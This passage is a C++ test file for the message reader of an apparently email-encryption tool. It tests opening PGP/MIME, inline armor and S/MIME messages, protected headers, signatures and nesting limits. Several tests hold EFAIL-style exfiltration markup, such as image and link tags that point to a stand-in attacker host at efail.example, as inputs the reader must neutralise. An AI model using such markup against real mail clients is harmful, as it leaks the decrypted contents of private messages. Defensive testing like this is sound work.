#include "crypto/payload_digest.hpp"
#include "mail/base64_lines.hpp"
#include "mail/layer.hpp"
#include "mail/line_ends.hpp"
#include "reader/open.hpp"
#include "tests/support/catch.hpp"
#include "tests/support/stub_engine.hpp"

#include <algorithm>
#include <string>

using namespace lockbox;
using namespace lockbox::reader;
using lockbox::test::StubEngine;
namespace stub = lockbox::test::stub;
using lockbox::test::contains_text;

namespace {

const std::string header = "From: alice@example.org\r\nTo: bob@example.net\r\nSubject: [...]\r\n";
const std::string text = "MIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\nAttack at dawn.\r\n";
const std::string html = "Content-Type: text/html\r\n\r\n<p>Attack at dawn.</p>\r\n";

Opened opened(const std::string& message) {
    StubEngine engine;
    return open(message, engine);
}

std::string message_of(const Opened& result) {
    return std::string(result.message.expose());
}

std::string mixed(const std::vector<std::string>& parts) {
    std::string body = "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n";
    for (const auto& part : parts) {
        body += "--m\r\n" + part + "\r\n";
    }
    return body + "--m--\r\n";
}

/// A multipart in a multipart.
std::string nested(const std::string& part) {
    return mixed({"Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n" + part + "\r\n--i--"});
}

std::string signed_part(const std::string& content, const std::string& signature) {
    return "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; "
           "boundary=\"s\"\r\n\r\n--s\r\n" +
           content + "\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n" + signature +
           "\r\n--s--\r\n";
}

bool holds(const Opened& result, std::string_view what) {
    return result.message.expose().find(what) != std::string_view::npos;
}

} // namespace

TEST_CASE("a message that is sealed as a whole opens to a message", "[reader]") {
    const auto result = opened(header + stub::pgp_mime(text));
    CHECK(result.outcome == Outcome::opened);
    CHECK(result.protection == Protection::authenticated);
    CHECK(result.recipients == std::vector<std::string>{"0123456789ABCDEF"});
    CHECK(result.parts.empty());
    CHECK(message_of(result) == header + text);
}

TEST_CASE("the line ends of an opened message are those of the file that it was in", "[reader]") {
    CHECK(message_of(opened(mail::to_lf(header + stub::pgp_mime(text)))) == mail::to_lf(header + text));
}

TEST_CASE("protected header fields come from the root of what was sealed, and from nowhere else",
          "[reader]") {
    const std::string sealed = "Subject: Dawn\r\nFrom: alice@example.org\r\n"
                               "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nAttack.\r\n";
    const auto whole = opened(header + stub::pgp_mime(sealed));
    CHECK(whole.header_was_protected);
    CHECK(holds(whole, "Subject: Dawn\r\n"));
    CHECK_FALSE(holds(whole, "[...]"));

    const auto without_mark =
        opened(header + stub::pgp_mime("Subject: Dawn\r\nContent-Type: text/plain\r\n\r\nAttack.\r\n"));
    CHECK_FALSE(without_mark.header_was_protected);
    CHECK(holds(without_mark, "[...]"));
    CHECK_FALSE(holds(without_mark, "Dawn"));

    const auto not_the_root = opened(header + stub::pgp_mime(mixed({sealed})));
    CHECK_FALSE(not_the_root.header_was_protected);
    CHECK(not_the_root.message.expose().starts_with(header));

    const auto part = opened(header + mixed({stub::pgp_mime(sealed), "\r\nfooter"}));
    CHECK_FALSE(part.header_was_protected);
    CHECK(part.message.expose().starts_with(header));
    CHECK_FALSE(holds(part, "Dawn"));

    const auto unsealed = opened("From: alice@example.org\r\nSubject: outside\r\n"
                                 "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nAttack.\r\n");
    CHECK(unsealed.outcome == Outcome::nothing_to_open);
    CHECK_FALSE(unsealed.header_was_protected);
}

TEST_CASE("of a message that is only signed, the fields to be shown are those that its signature covers",
          "[reader]") {
    const std::string outer = "From: alice@example.org\r\nTo: bob@example.org\r\nCc: carol@example.org\r\n"
                              "List-Id: <list.example.org>\r\nSubject: [list] Dusk\r\n";
    const std::string content = "From: alice@example.org\r\nTo: bob@example.org\r\nSubject: Dawn\r\n"
                                "Content-Type: text/plain; hp=\"clear\"\r\n\r\nAttack.";
    const auto result = opened(outer + signed_part(content, "good alice@example.org"));
    CHECK(result.outcome == Outcome::nothing_to_open);
    REQUIRE(result.signed_header);
    CHECK(result.signed_header->header.first("Subject") == "Dawn");
    CHECK(result.signed_header->header.count("Cc") == 0);
    REQUIRE(result.signed_header->warnings.size() == 1);
    CHECK_THAT(result.signed_header->warnings.front(), contains_text("Cc"));
    CHECK(result.warnings.empty()); // of what is written, nothing was left out
    CHECK(result.signed_header->header.first("List-Id") == "<list.example.org>"); // who forwards may say so
    CHECK(result.signatures.front().proves_sender());
    CHECK(result.message.size() == 0);

    const auto bad = opened(outer + signed_part(content, "bad"));
    CHECK_FALSE(bad.signed_header);

    const auto other =
        opened("From: mallory@example.com\r\n" + signed_part(content, "good alice@example.org"));
    REQUIRE(other.signed_header);
    CHECK(other.signed_header->header.first("From") == "mallory@example.com");
    CHECK_FALSE(other.signatures.front().proves_sender());

    const auto part = opened(outer + mixed({signed_part(content, "good alice@example.org")}));
    CHECK_FALSE(part.signed_header);
}

TEST_CASE("a message signed in a form that hides its text shows the same fields, and says the same",
          "[reader]") {
    const std::string outer = "From: alice@example.org\r\nCc: carol@example.org\r\nSubject: Dusk\r\n";
    const auto message =
        outer + stub::smime(stub::signed_data, "From: alice@example.org\r\nSubject: Dawn\r\n"
                                               "Content-Type: text/plain; hp=\"clear\"\r\n\r\nAttack.");
    const auto result = opened(message);
    CHECK(result.outcome == Outcome::nothing_to_open);
    CHECK(result.warnings.empty()); // nothing is written, so nothing is left out of it
    CHECK_FALSE(result.header_was_protected);
    REQUIRE(result.signed_header);
    CHECK(result.signed_header->header.first("Subject") == "Dawn");
    REQUIRE(result.signed_header->warnings.size() == 1);
    CHECK_THAT(result.signed_header->warnings.front(), contains_text("Cc"));

    StubEngine engine;
    engine.opaque_signature = "bad";
    const auto bad = open(message, engine);
    CHECK_FALSE(bad.signed_header);
    CHECK(holds(bad, "Subject: Dusk\r\n"));
    CHECK(holds(bad, "Cc: carol@example.org\r\n"));
    CHECK(holds(bad, "\r\n\r\nAttack."));
    CHECK_FALSE(holds(bad, "Dawn"));
    CHECK_FALSE(holds(bad, "pkcs7-mime"));
}

TEST_CASE("a From inside that names somebody else is not shown", "[reader]") {
    const auto result =
        opened(header + stub::pgp_mime("From: mallory@example.com\r\n"
                                       "Content-Type: text/plain; hp=\"cipher\"\r\n\r\nx\r\n"));
    CHECK(holds(result, "From: alice@example.org\r\n"));
    CHECK_FALSE(holds(result, "mallory"));
    REQUIRE_FALSE(result.warnings.empty());
    CHECK_THAT(result.warnings.front(), contains_text("mallory@example.com"));
}

TEST_CASE("PGP/MIME that Exchange mixed up is a whole message, unless there is text in front", "[reader]") {
    const std::string control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    const auto data =
        "Content-Type: application/octet-stream; name=\"encrypted.asc\"\r\n\r\n" + stub::armored(text);
    const auto result = opened(header + mixed({"Content-Type: text/plain\r\n\r\n\r\n", control, data}));
    CHECK(result.outcome == Outcome::opened);
    CHECK(message_of(result) == header + text);

    const auto with_text = opened(header + mixed({"\r\nRead this:", control, data}));
    CHECK(with_text.outcome == Outcome::partly_sealed);
    CHECK(with_text.protection == Protection::none);
}

TEST_CASE("what the milter leaves alone as sealed is what is opened, and nothing else", "[reader]") {
    // Of all of these the outermost layer is sealed, or none.
    const std::string control = "Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n";
    const auto data = "Content-Type: application/octet-stream\r\n\r\n" + stub::armored(text);
    const auto message = GENERATE_COPY(
        as<std::string>{}, stub::pgp_mime(text), mixed({"\r\n", control, data}),
        mixed({"\r\nRead:", control, data}), mixed({"Content-Type: text/html\r\n\r\n", control, data}),
        mixed({control, data}),
        mixed({"\r\n", "Content-Type: application/pgp-encrypted\r\n\r\nRead this: Version: 1\r\n", data}),
        "Content-Type: application/octet-stream; name=x.asc\r\n\r\n" + stub::armored(text),
        "Content-Type: application/octet-stream\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
            stub::openpgp(text),
        "Content-Type: application/pdf; name=x.pdf.gpg\r\n\r\n" + stub::armored("%PDF"),
        "Content-Type: application/pdf; name=x.pdf\r\n\r\n" + stub::armored("%PDF"),
        "Content-Type: text/html\r\n\r\n" + stub::armored(text), "\r\n" + stub::armored(text),
        "\r\n" + stub::armored(text) + "Read this.\r\n",
        "Content-Type: text/plain\r\nContent-Disposition: attachment; filename=x.asc\r\n\r\n" +
            stub::armored(text),
        "Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64\r\n\r\n" + stub::armored(text),
        stub::smime(stub::auth_enveloped, text), stub::smime(stub::enveloped, text),
        "Content-Type: application/octet-stream; name=smime.p7m\r\nContent-Transfer-Encoding: "
        "binary\r\n\r\n" +
            stub::cms(stub::auth_enveloped, text));
    CAPTURE(message);
    const auto parsed = mail::Message::parse(header + message);
    const bool is_opened = opened(header + message).outcome == Outcome::opened;
    CHECK(is_opened ==
          mail::is_sealed(mail::outermost_layer(parsed.header, parsed.body, mail::Beside::unshown)));
    if (mail::is_sealed(mail::outermost_layer(parsed.header, parsed.body))) {
        CHECK(is_opened);
    }
}

TEST_CASE("what no program shows beside a sealed part does not keep it closed, and is not shown",
          "[reader]") {
    const std::string link = "see https://example.com\r\n";
    const auto with = [&](std::string_view what, std::string_view instead) {
        auto message = stub::pgp_mime(text);
        return message.replace(message.find(what), what.size(), instead);
    };
    struct Case {
        std::string message;
        bool is_warned_of = false;
    };
    const auto c = GENERATE_COPY(values<Case>({
        {stub::pgp_mime(text) + link, true},
        {with("\r\n\r\n--=_b", "\r\n\r\n" + std::string(300, 'x') + link + "--=_b"), true},
        {with("Version: 1", "Version: 1\r\nVersion: 1")},
        {with("Version: 1", "Version:\r\n 1")},
        {with("Version: 1", "")},
        {with("Version: 1", link)},
        {with("--=_b\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n", "")},
        {with("octet-stream; name=\"encrypted.asc\"", "octet-stream\r\nContent-Transfer-Encoding: base64")},
        {with("octet-stream; name=\"encrypted.asc\"",
              "octet-stream\r\nContent-Transfer-Encoding: quoted-printable")},
        {with("application/octet-stream; name=\"encrypted.asc\"", "text/plain")},
        {"Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n" +
         stub::armored("Attack at dawn.")},
        {"Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\n" +
         stub::armored("Attack at dawn.")},
    }));
    CAPTURE(c.message);
    const auto result = opened(header + c.message);
    CHECK(result.outcome == Outcome::opened);
    CHECK(holds(result, "Attack at dawn."));
    CHECK_FALSE(holds(result, "example.com"));
    CHECK(result.warnings.size() == (c.is_warned_of ? 1 : 0));
}

TEST_CASE("one sealed part and empty texts are a sealed message", "[reader]") {
    const std::string subject =
        "Subject: Dawn\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nAttack at dawn.";
    const std::string empty = "Content-Type: text/plain; charset=us-ascii\r\n\r\n \r\n";
    const std::string file = "Content-Type: application/octet-stream; name=message.asc\r\n\r\n";
    const auto sealed =
        GENERATE_COPY(as<std::string>{}, stub::pgp_mime(subject), stub::smime(stub::auth_enveloped, subject),
                      "Content-Type: text/plain; charset=utf-8\r\n\r\n" + stub::armored("Attack at dawn."),
                      file + stub::armored(subject));
    const auto message =
        GENERATE_COPY(mixed({sealed}), mixed({empty, sealed}), mixed({sealed, empty}), nested(sealed));
    CAPTURE(message);
    const auto result = opened(header + message);
    CHECK(result.outcome == Outcome::opened);
    CHECK(result.parts.empty());
    const auto parsed = mail::parse_entity(result.message.expose());
    CHECK(parsed.media_type == "text/plain");
    CHECK(parsed.body == "Attack at dawn.");
    CHECK(parsed.header.first("From") == "alice@example.org");
    CHECK(parsed.header.count("Content-Type") <= 1);

    const auto no_key = opened(header + mixed({empty, stub::pgp_mime("!no-key")}));
    CHECK(no_key.outcome == Outcome::no_key);
    CHECK(no_key.parts.empty());

    // What can be read beside it makes a part of it.
    const auto other = GENERATE(as<std::string>{}, "\r\nfooter", "Content-Type: text/html\r\n\r\n",
                                "Content-Type: image/png\r\n\r\n",
                                "Content-Type: text/plain\r\nContent-"
                                "Transfer-Encoding: base64\r\n\r\neA==");
    CHECK(opened(header + mixed({other, sealed})).outcome == Outcome::partly_sealed);
}

TEST_CASE("what inline armor opens to is described by the part that it stood in", "[reader]") {
    const auto result = opened(header + stub::smime(stub::auth_enveloped, "Content-Type: text/plain\r\n\r\n" +
                                                                              stub::armored("Attack.")));
    CHECK(result.outcome == Outcome::opened);
    CHECK(message_of(result) == header + "Content-Type: text/plain\r\nMIME-Version: 1.0\r\n\r\nAttack.");
}

TEST_CASE("armor with a wrong checksum, or without the empty line, is opened", "[reader]") {
    auto sealed = stub::pgp_mime(text);
    const auto end = sealed.find("\r\n-----END");
    REQUIRE(end != std::string::npos);
    const auto checksum = sealed.rfind("\r\n=", end);
    if (checksum != std::string::npos && end - checksum == 7) {
        sealed.replace(checksum, 7, "\r\n=AAAA");
    } else {
        sealed.insert(end, "\r\n=AAAA");
    }
    CHECK(message_of(opened(header + sealed)) == header + text);
    const std::string begin = "-----BEGIN PGP MESSAGE-----\r\n";
    REQUIRE(sealed.find(begin + "\r\n") != std::string::npos);
    sealed.erase(sealed.find(begin) + begin.size(), 2);
    CHECK(message_of(opened(header + sealed)) == header + text);
}

TEST_CASE("fields that sealing put beside a signed message come back, and no others", "[reader]") {
    const std::string beside = "Thread-Topic: Dawn\r\nReceived: from nowhere\r\nCc: mallory@example.com\r\n"
                               "Subject: forged\r\nMIME-Version: 1.0\r\n";
    const std::string content = "Content-Type: text/plain\r\n\r\nAttack.";
    const auto inner = GENERATE_COPY(as<std::string>{}, signed_part(content, "good alice@example.org"),
                                     stub::smime(stub::signed_data, content));
    CAPTURE(inner);
    const auto result = opened(header + stub::pgp_mime(beside + inner));
    CHECK(result.outcome == Outcome::opened);
    CHECK(holds(result, "Thread-Topic: Dawn\r\n"));
    CHECK(holds(result, "Subject: [...]\r\n"));
    CHECK_FALSE(holds(result, "forged"));
    CHECK_FALSE(holds(result, "nowhere"));
    CHECK_FALSE(holds(result, "mallory"));
    CHECK(result.warnings.empty());
}

TEST_CASE("the footer of a mailing list leaves the part sealed that is, and the rest as it was", "[reader]") {
    const std::string footer = "Content-Type: text/plain\r\n\r\n-- \r\nlist footer";
    const auto result = opened(header + mixed({stub::pgp_mime(text), footer}));
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK(result.protection == Protection::none);
    REQUIRE(result.parts.size() == 1);
    CHECK(result.parts[0].number == "1");
    CHECK(result.parts[0].in_place);
    CHECK(result.parts[0].protection == Protection::authenticated);
    CHECK(message_of(result) == header + mixed({text, footer}));
}

TEST_CASE("nothing that was opened is put beside markup", "[reader]") {
    // EFAIL, "direct exfiltration": the first part opens an attribute, the third closes it, and a reader that
    // puts the parts together asks a server of the attacker's for the text between.
    const auto before = GENERATE(
        as<std::string>{}, "Content-Type: text/html\r\n\r\n<img src=\"http://efail.example/",
        "Content-Type: TEXT/HTML; charset=utf-8\r\n\r\n<img src=\"http://efail.example/",
        "Content-Type: image/svg+xml\r\n\r\n<svg><a href=\"http://efail.example/",
        "Content-Type: text/plain\r\nContent-Type: text/html\r\n\r\n<img src=\"http://efail.example/",
        "Content-Type: application/xhtml+xml\r\n\r\n<img src=\"http://efail.example/",
        "Content-Type: text/plain; name=a.html\r\n\r\n<img src=\"http://efail.example/",
        "Content-Type: multipart/alternative; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n<img "
        "src=\"\r\n--x--\r\n");
    CAPTURE(before);
    const auto message = header + mixed({before, stub::pgp_mime(text), "Content-Type: text/html\r\n\r\n\">"});
    const auto result = opened(message);
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK_FALSE(holds(result, "Attack"));
    REQUIRE(result.parts.size() == 1);
    CHECK_FALSE(result.parts[0].in_place);
    CHECK(result.parts[0].entity.expose() == text);
}

TEST_CASE("nothing that was opened is put beside markup that was sealed, too", "[reader]") {
    // Who has a stolen part can seal the page that he puts around it: to the same reader, in the same
    // protocol.
    const std::string page = "Content-Type: text/html\r\n\r\n<img src=\"http://efail.example/";
    const auto around = GENERATE_COPY(
        as<std::string>{}, stub::pgp_mime(page), stub::smime(stub::auth_enveloped, page),
        stub::pgp_mime("Content-Type: multipart/mixed; boundary=i\r\n\r\n--i\r\n\r\nharmless\r\n--i\r\n" +
                       page + "\r\n--i--\r\n"),
        "Content-Type: message/rfc822\r\n\r\nFrom: x@example.net\r\n" + stub::pgp_mime(page));
    CAPTURE(around);
    const auto result = opened(header + mixed({around, stub::pgp_mime(text)}));
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK_FALSE(holds(result, "Attack"));
    CHECK_FALSE(holds(result, "efail"));

    // Alone, it has nobody to harm, and two texts do none.
    CHECK(holds(opened(header + mixed({around, "\r\nfooter"})), "efail"));
    CHECK(holds(opened(header + mixed({stub::pgp_mime(text), stub::pgp_mime("\r\ntwo")})), "Attack"));
}

TEST_CASE("an opened part with a delimiter of what is around it is not put in its place", "[reader]") {
    const auto result =
        opened(header + mixed({stub::pgp_mime("Content-Type: text/plain\r\n\r\none\r\n--m\r\n" + html),
                               "\r\nfooter"}));
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK(result.message.size() == 0);
}

TEST_CASE("text around armor makes a part of it", "[reader]") {
    const auto message = header + "\r\nIn front.\r\n" + stub::armored("one") + "between\r\n" +
                         stub::armored("two") + "behind\r\n";
    const auto result = opened(message);
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK(result.message.size() == 0);
    REQUIRE(result.parts.size() == 2);
    CHECK(result.parts[0].number == "1#1");
    CHECK(result.parts[0].entity.expose() == "\r\none");
    CHECK(result.parts[1].number == "1#2");
    CHECK(result.parts[1].entity.expose() == "\r\ntwo");
}

TEST_CASE("armor alone is a text", "[reader]") {
    CHECK(message_of(opened(header + "\r\n" + stub::armored("Attack."))) == header + "\r\nAttack.");
    const auto umlaut = opened(header + "\r\n" + stub::armored("\xc3\xa4"));
    CHECK(holds(umlaut, "Content-Type: text/plain; charset=utf-8\r\n"));
    CHECK(holds(umlaut, "Content-Transfer-Encoding: 8bit\r\n"));
}

TEST_CASE("armor in markup is not opened", "[reader]") {
    const auto result =
        opened(header + "Content-Type: text/html\r\n\r\n<pre>\r\n" + stub::armored("x") + "</pre>");
    CHECK(result.outcome == Outcome::damaged);
    CHECK(result.message.size() == 0);
}

TEST_CASE("encrypted files become attachments of the name without its suffix", "[reader]") {
    const std::string file = "Content-Type: application/octet-stream\r\n"
                             "Content-Disposition: attachment; filename=\"notes \xc3\xa4.pdf.gpg\"\r\n"
                             "Content-Transfer-Encoding: 8bit\r\n\r\n" +
                             stub::openpgp("%PDF");
    const auto result = opened(header + mixed({"\r\nSee the file.", file}));
    CHECK(result.outcome == Outcome::partly_sealed);
    REQUIRE(result.parts.size() == 1);
    CHECK(result.parts[0].in_place);
    const auto message = message_of(result);
    const auto root = mail::parse_entity(message);
    REQUIRE(root.children.size() == 2);
    CHECK(root.children[1].file_name() == "notes \xc3\xa4.pdf");
    CHECK(root.children[1].is_attachment());
    CHECK(root.children[1].decoded() == "%PDF");
}

TEST_CASE("a sealed message that lost its label is one", "[reader]") {
    const auto result = opened(header + "Content-Type: application/octet-stream; name=\"msg.asc\"\r\n\r\n" +
                               stub::armored(text));
    CHECK(result.outcome == Outcome::opened);
    CHECK(message_of(result) == header + text);
}

TEST_CASE("a forwarded message has a header section of its own", "[reader]") {
    const std::string sealed = "Subject: Dawn\r\nContent-Type: text/plain; hp=\"cipher\"\r\n\r\nAttack.\r\n";
    const std::string inner = "From: carol@example.com\r\nSubject: [...]\r\n";
    const auto result = opened(header + mixed({"\r\nsee below", "Content-Type: message/rfc822\r\n\r\n" +
                                                                    inner + stub::pgp_mime(sealed)}));
    CHECK(result.outcome == Outcome::partly_sealed);
    REQUIRE(result.parts.size() == 1);
    CHECK(result.parts[0].number == "2");
    CHECK(result.parts[0].in_place);
    CHECK(holds(result, "Content-Type: message/rfc822\r\n\r\nFrom: carol@example.com\r\nSubject: Dawn\r\n"));
    CHECK(result.message.expose().starts_with(header));
}

TEST_CASE("layers are taken off one after the other", "[reader]") {
    const auto inner = stub::pgp_mime(text);
    const auto result = opened(header + stub::smime(stub::enveloped, inner));
    CHECK(result.outcome == Outcome::opened);
    CHECK(result.layers ==
          std::vector<std::string>{"S/MIME, EnvelopedData, AES-256-CBC", "OpenPGP, PGP/MIME"});
    CHECK(result.protection == Protection::authenticated); // of the inner one
    CHECK(message_of(result) == header + text);

    std::string deep = text;
    for (unsigned i = 0; i < layers_max; ++i) {
        deep = stub::pgp_mime(deep);
    }
    CHECK(opened(header + deep).outcome == Outcome::opened);
    const auto too_deep = opened(header + stub::pgp_mime(deep));
    REQUIRE(too_deep.parts.size() == 1);
    CHECK(too_deep.parts[0].number == "all");
    CHECK_THAT(too_deep.parts[0].reason, contains_text("more than 8 layers"));
    CHECK_FALSE(holds(too_deep, "Attack"));
}

TEST_CASE("sealed parts inside each other are opened to a depth", "[reader]") {
    std::string deep = text;
    for (int i = 0; i < 20; ++i) {
        deep = mixed({stub::pgp_mime(deep), "\r\nfooter"});
    }
    const auto result = opened(header + deep);
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK_FALSE(holds(result, "Attack"));
    const auto& innermost = result.parts.back();
    CHECK(innermost.outcome == Outcome::damaged);
    CHECK_THAT(innermost.reason, contains_text("more than 8"));
}

TEST_CASE("no more parts are opened than anybody sends", "[reader]") {
    StubEngine engine;
    const auto result = open(header + mixed(std::vector<std::string>(150, stub::pgp_mime(text))), engine);
    CHECK(engine.decryptions == sealed_parts_max);
    CHECK_THAT(result.parts.back().reason, contains_text("more than 100 sealed parts"));
}

TEST_CASE("what an S/MIME message without integrity opens to must be text as mail has it", "[reader]") {
    using namespace std::string_literals;
    CHECK(opened(header + stub::smime(stub::enveloped, text)).protection == Protection::without_integrity);
    const auto altered = GENERATE(
        as<std::string>{},
        "Content-Type: text/html\r\n\r\n<img src=\"\x9f\x81\x03\x11 http://efail.example/Attack",
        "Content-Ty\x01pe: text/html\r\n\r\nAttack",
        "Subject: \xff\xfe\r\nContent-Type: text/plain\r\n\r\nAttack",
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\nQXR0YWNr\x80\x81",
        "Content-Type: text/plain\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nAttack\x80",
        "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\nAttack \x05",
        "Content-Type: multipart/mixed; boundary=x\r\n\r\n\x80\x81\r\n--x\r\n\r\nAttack\r\n--x--\r\n",
        "Content-Type: text/html\r\nContent-Transfer-Encoding: binary\r\n\r\n\x80\x81 Attack",
        "Content-Type: text/plain\r\n\r\nAttack\0"s);
    CAPTURE(altered);
    const auto result = opened(header + stub::smime(stub::enveloped, altered));
    CHECK(result.outcome == Outcome::damaged);
    CHECK(result.protection == Protection::none);
    CHECK(result.message.size() == 0);
    CHECK(result.parts.empty());
    CHECK(opened(header + stub::smime(stub::auth_enveloped, altered)).outcome == Outcome::opened);
    CHECK(opened(header + stub::smime(stub::enveloped, stub::smime(stub::signed_data, altered))).outcome ==
          Outcome::opened);
}

TEST_CASE("mail in any charset may be sealed without integrity", "[reader]") {
    const auto payload = GENERATE(
        as<std::string>{}, "Content-Type: text/plain; charset=utf-8\r\n\r\n\xc3\xa4\xe2\x82\xac\r\n",
        "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit\r\n\r\n\xe4\r\n",
        "Content-Type: text/plain; charset=iso-2022-jp\r\n\r\n\x1b$B$\"\x1b(B\r\n",
        "Content-Type: application/pdf\r\nContent-Transfer-Encoding: binary\r\n\r\n%PDF\x80\x01\r\n",
        "Subject: \xc3\xa4\r\nContent-Type: text/plain\r\n\r\n\tx\x0c\r\n",
        "Content-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n\r\none\r\n--x\r\n\r\ntwo\r\n--x--\r\n");
    CAPTURE(payload);
    CHECK(opened(header + stub::smime(stub::enveloped, payload)).outcome == Outcome::opened);
}

TEST_CASE("a signature counts for what it covers", "[reader]") {
    const auto inside = opened(header + stub::pgp_mime(signed_part(text, "good alice@example.org")));
    REQUIRE(inside.signatures.size() == 1);
    CHECK(inside.signatures[0].proves_sender());
    CHECK(holds(inside, "\r\n\r\n--s\r\n" + text + "\r\n--s\r\n")); // for others to verify

    // Anybody can sign what somebody else sealed.
    const auto around = opened(header + signed_part(stub::pgp_mime(text), "good alice@example.org"));
    CHECK(around.outcome == Outcome::opened);
    REQUIRE(around.signatures.size() == 1);
    CHECK(around.signatures[0].is_around_encryption);
    CHECK_FALSE(around.signatures[0].proves_sender());
    CHECK(message_of(around) == header + text);

    const auto part =
        opened(header + stub::pgp_mime(mixed({signed_part(text, "good alice@example.org"), text})));
    CHECK(part.signatures.empty());
    REQUIRE(part.parts.size() == 1);
    CHECK(part.parts[0].number == "1");
    CHECK(part.parts[0].signatures.size() == 1);

    const auto other = opened(header + stub::pgp_mime(signed_part(text, "good mallory@example.com")));
    CHECK_FALSE(other.signatures.at(0).proves_sender());

    const auto only_signed = opened(header + signed_part(text, "good alice@example.org"));
    CHECK(only_signed.outcome == Outcome::nothing_to_open);
    CHECK(only_signed.protection == Protection::none);
    CHECK(only_signed.signatures.size() == 1);
    CHECK(only_signed.message.size() == 0);
}

TEST_CASE("a sealed part inside of a signature stays there", "[reader]") {
    const auto result =
        opened(header + signed_part(mixed({stub::pgp_mime(text), "\r\nfooter"}), "good alice@example.org"));
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK(result.message.size() == 0);
    REQUIRE(result.parts.size() == 1);
    CHECK(result.parts[0].entity.expose() == text);
}

TEST_CASE("why nothing was opened is said, and never taken for something else", "[reader]") {
    const auto no_key = opened(header + stub::pgp_mime("!no-key"));
    CHECK(no_key.outcome == Outcome::no_key);
    CHECK(no_key.reason == "no secret key here opens this message");
    CHECK(no_key.message.size() == 0);
    CHECK(opened(header + stub::pgp_mime("!damaged")).outcome == Outcome::damaged);
    CHECK(opened(header + "\r\ntext\r\n").outcome == Outcome::nothing_to_open);
    CHECK(opened("").outcome == Outcome::nothing_to_open);

    const auto part = opened(header + mixed({stub::pgp_mime("!no-key"), "\r\nfooter"}));
    CHECK(part.outcome == Outcome::partly_sealed); // the footer can be read
    CHECK(part.reason == "part 1: no secret key here opens this message");
    CHECK(part.message.size() == 0);

    const auto nothing_else = opened(header + mixed({stub::pgp_mime("!no-key"), stub::pgp_mime("!damaged")}));
    CHECK(nothing_else.outcome == Outcome::no_key);
    CHECK(opened(header + mixed({stub::pgp_mime("!unavailable"), "\r\nfooter"})).outcome ==
          Outcome::unavailable); // a program that reads it may try again

    const auto one_of_two = opened(header + mixed({stub::pgp_mime("!no-key"), stub::pgp_mime(text)}));
    CHECK(one_of_two.outcome == Outcome::partly_sealed);
    CHECK(one_of_two.message.size() == 0); // who can open the other one may find a page around this one
    CHECK(one_of_two.parts.at(1).entity.expose() == text);

    const auto inner = opened(header + stub::pgp_mime(stub::smime(stub::enveloped, "!no-key")));
    CHECK(inner.outcome == Outcome::opened);
    REQUIRE(inner.parts.size() == 1);
    CHECK(inner.parts[0].number == "all");
    CHECK(inner.parts[0].outcome == Outcome::no_key);
}

TEST_CASE("what cannot be opened hides nothing that stands beside it", "[reader]") {
    struct Case {
        std::string message, number;
    };
    const auto truncated = [] {
        auto armor = stub::armored(std::string(500, 'x'));
        return armor.erase(armor.size() / 2);
    }();
    // The first lines of what gpg writes to an RSA key of 4096 bits, less than its first packet.
    const std::string cut = "-----BEGIN PGP MESSAGE-----\r\n\r\n"
                            "hQIMA7e3xdV1nbmwARAAk5Vv6dHAv0m2uV1mWmBzY0dNXnl2bE1sVXhWQ2hZc1pX\r\n"
                            "TGJ4R1hNdkF0b2d1cW5QZ2JkU1l6c1l6\r\n";
    const auto damaged = [] {
        auto armor = stub::armored(std::string(500, 'x'));
        armor[armor.size() / 2] = '%';
        return armor;
    }();
    const std::string report = "Content-Type: message/rfc822\r\n\r\nFrom: bob@example.org\r\n";
    const auto c = GENERATE_COPY(values<Case>({
        {mixed({"\r\nReadable.", report + stub::pgp_mime("!no-key")}), "2"},
        {mixed({"\r\nReadable.", stub::pgp_mime("!damaged")}), "2"},
        {mixed({stub::smime(stub::enveloped, "!no-key"), "Content-Type: text/html\r\n\r\nReadable."}), "1"},
        {mixed({"\r\nReadable.", "Content-Type: multipart/encrypted; boundary=e\r\n\r\n--e--"}), "2"},
        {"\r\nReadable.\r\n" + stub::armored("!no-key"), "1#1"},
        {"\r\n" + stub::armored("!no-key") + "Readable.\r\n", "1#1"},
        {"\r\nReadable.\r\n" + truncated, "1#1"},
        {"\r\nReadable.\r\n" + cut, "1#1"},
        {"\r\nReadable.\r\n" + damaged, "1#1"},
        {signed_part(mixed({"\r\nReadable.", stub::pgp_mime("!no-key")}), "good alice@example.org"), "1.2"},
    }));
    CAPTURE(c.message);
    const auto result = opened(header + c.message);
    CHECK(result.outcome == Outcome::partly_sealed);
    CHECK(result.protection == Protection::none);
    CHECK(result.message.size() == 0);
    REQUIRE_FALSE(result.parts.empty());
    CHECK(result.parts.back().number == c.number);
    CHECK_FALSE(result.parts.back().reason.empty());
    CHECK_THAT(result.reason, contains_text("part " + c.number + ": "));
}

TEST_CASE("an example of armor in a text is text", "[reader]") {
    const auto example = GENERATE(
        as<std::string>{}, "-----BEGIN PGP MESSAGE-----\r\n\r\nhQEMA...\r\n-----END PGP MESSAGE-----\r\n",
